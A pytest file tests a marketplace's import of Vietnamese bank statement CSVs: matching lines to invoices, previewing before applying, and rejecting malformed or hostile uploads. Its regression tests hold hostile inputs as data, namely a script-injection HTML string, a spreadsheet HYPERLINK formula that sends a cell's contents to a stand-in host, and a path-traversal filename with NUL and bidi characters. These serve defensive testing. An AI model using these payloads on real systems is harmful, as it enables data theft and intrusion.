"""Bank statement import: lines matched on reference and amount, previewed (matched, ambiguous,
unmatched) before anything is written, applied once, and re-importing records nothing twice."""

import io

from sqlalchemy import select

from marketplace.payments import ledger, statements
from marketplace.payments.models import BankStatement, PaymentTransaction
from tests import factories
from tests.conftest import post_form

UPLOAD = "/payments/manage/statements"


def csv_for(*lines: tuple[str, str, str], header="Ngày,Số tiền,Nội dung") -> str:
    return "\n".join([header, *(",".join(f'"{cell}"' for cell in line) for line in lines)]) + "\n"


def upload(client, content: str, name="sao-ke.csv"):
    return post_form(
        client, UPLOAD, UPLOAD, {"statement": (io.BytesIO(content.encode()), name)}, content_type="multipart/form-data"
    )


def test_matching_exact_ambiguous_and_none(db):
    one, two, three = factories.invoice(commit=True), factories.invoice(commit=True), factories.invoice(commit=True)
    lines = statements.read_statement(
        csv_for(
            ("12/03/2026", "1.000.000", f"HTX PHU VINH CK {one.reference} gian hang"),  # exact
            ("12/03/2026", "1.000.000", f"CK {two.reference[:4]} {two.reference[4:]}"),  # spaces dropped by bank: exact
            ("12/03/2026", "900.000", f"CK {three.reference}"),  # amount differs
            ("13/03/2026", "1.000.000", f"{one.reference} {two.reference}"),  # two references
            ("13/03/2026", "1.000.000", "chuyen tien gian hang"),  # no reference
            ("13/03/2026", "1.000.000", "CK CNNTZZZZZZ"),  # looks like one, is none of ours
            ("13/03/2026", "-50.000", f"Phi {one.reference}"),  # a debit
        )
    )

    found = [
        (line.outcome, line.why, line.invoice.reference if line.invoice else None) for line in statements.match(lines)
    ]

    assert found == [
        ("matched", None, one.reference),
        ("matched", None, two.reference),
        ("ambiguous", "amount_differs", three.reference),
        ("ambiguous", "several_references", None),
        ("unmatched", "no_reference", None),
        ("unmatched", "no_reference", None),
        ("unmatched", "not_a_credit", None),
    ]


def test_two_lines_paying_one_invoice_are_both_left_for_the_organiser(db):
    invoice = factories.invoice(commit=True)
    lines = statements.match(
        statements.read_statement(
            csv_for(
                ("12/03/2026", "1000000", f"CK {invoice.reference}"),
                ("14/03/2026", "1000000", f"CK lai {invoice.reference}"),
            )
        )
    )
    assert [(line.outcome, line.why) for line in lines] == [("ambiguous", "several_lines")] * 2


def test_preview_writes_nothing_and_apply_records_only_the_matches(client, login, make_user, db, paid_signals):
    good, short = factories.invoice(commit=True), factories.invoice(commit=True)
    login(make_user("organiser"))
    content = csv_for(
        ("12/03/2026", "1.000.000", f"CK {good.reference}"),
        ("12/03/2026", "990.000", f"CK {short.reference}"),
        ("12/03/2026", "5.000.000", "unrelated"),
    )

    uploaded = upload(client, content)
    preview = client.get(uploaded.headers["Location"])
    html = preview.get_data(as_text=True)

    assert uploaded.status_code == 303 and preview.status_code == 200
    assert good.reference in html and short.reference in html
    assert db.session.scalars(select(PaymentTransaction)).all() == []
    applied = post_form(client, uploaded.headers["Location"], uploaded.headers["Location"] + "/apply")
    assert applied.status_code == 303
    assert ledger.standing_of(good).status == "paid"
    assert ledger.standing_of(short).status == "unpaid"
    assert paid_signals == [("paid", good.reference)]


def test_importing_the_same_statement_again_records_nothing_twice(client, login, make_user, db):
    invoice = factories.invoice(commit=True)
    login(make_user("organiser"))
    content = csv_for(("12/03/2026", "1.000.000", f"CK {invoice.reference}"))
    first = upload(client, content)
    post_form(client, first.headers["Location"], first.headers["Location"] + "/apply")

    second = upload(client, content)
    html = client.get(second.headers["Location"]).get_data(as_text=True)
    post_form(client, second.headers["Location"], second.headers["Location"] + "/apply")

    assert "Already recorded" in html or "Đã ghi nhận" in html
    entries = db.session.scalars(select(PaymentTransaction).where(PaymentTransaction.invoice_id == invoice.id)).all()
    assert [e.status for e in entries] == ["succeeded"]


def test_a_statement_that_cannot_be_read_is_refused_with_a_reason(client, login, make_user, db):
    login(make_user("organiser", locale="en"))

    no_columns = upload(client, "a,b,c\n1,2,3\n")
    bad_amount = upload(client, csv_for(("12/03/2026", "mot trieu", "CK")))
    not_utf8 = post_form(
        client,
        UPLOAD,
        UPLOAD,
        {"statement": (io.BytesIO("Ngày,Số tiền".encode("utf-16")), "x.csv")},
        content_type="multipart/form-data",
    )

    assert [r.status_code for r in (no_columns, bad_amount, not_utf8)] == [422, 422, 422]
    assert "Line 2: the date or the amount cannot be read." in bad_amount.get_data(as_text=True)
    assert "columns date, amount and description" in no_columns.get_data(as_text=True)


def test_english_headers_semicolons_and_iso_dates_are_read(db):
    lines = statements.read_statement("Date;Amount;Description\n2026-03-12;1 250 000 VND;CK CNNTABCDEF\n")
    assert [(line.on.isoformat(), line.amount_vnd, line.description) for line in lines] == [
        ("2026-03-12", 1_250_000, "CK CNNTABCDEF")
    ]


def test_only_organisers_may_import_statements(client, login, make_user, db):
    login(make_user("producer"))
    assert client.get(UPLOAD).status_code == 403


def test_a_file_that_is_not_a_table_is_refused_with_a_reason_not_a_server_error(client, login, make_user, db):
    """Regression (upload sweep): the CSV sniffer gave up on HTML, a photo or one long line and the
    upload answered 500."""
    login(make_user("organiser", locale="en"))

    for content in ("<!doctype html><script>alert(1)</script>", "GIF89a", "just one line of text"):
        response = upload(client, content)
        assert response.status_code == 422, content
        assert "columns date, amount and description" in response.get_data(as_text=True)
    assert db.session.scalars(select(BankStatement)).all() == []


def test_a_description_quoted_with_commas_and_quotes_is_read_as_text(db):
    """Regression (upload sweep): such a cell made the sniffer give up (500); a leading = stays text."""
    content = 'Ngày,Số tiền,Nội dung\r\n12/03/2026,1.000.000,"=HYPERLINK(""http://x.example/?q=""&A1,""CK A01"")"\r\n'

    [line] = statements.read_statement(content)

    assert (line.amount_vnd, line.description) == (1_000_000, '=HYPERLINK("http://x.example/?q="&A1,"CK A01")')


def test_a_statement_with_nul_characters_or_a_hostile_name_is_handled(client, login, make_user, db):
    """Regression (upload sweep): NUL in the text or in the file's name was a 500 on PostgreSQL."""
    login(make_user("organiser", locale="en"))

    nul_inside = upload(client, csv_for(("12/03/2026", "1.000.000", "CK\x00 A01")))
    named = upload(client, csv_for(("12/03/2026", "1.000.000", "CK A01")), name="../../sao\x00ke\u202e.csv")

    assert nul_inside.status_code == 422
    assert "Save the statement as CSV in UTF-8." in nul_inside.get_data(as_text=True)
    assert named.status_code == 303
    [statement] = db.session.scalars(select(BankStatement)).all()
    assert statement.filename == "saoke.csv"
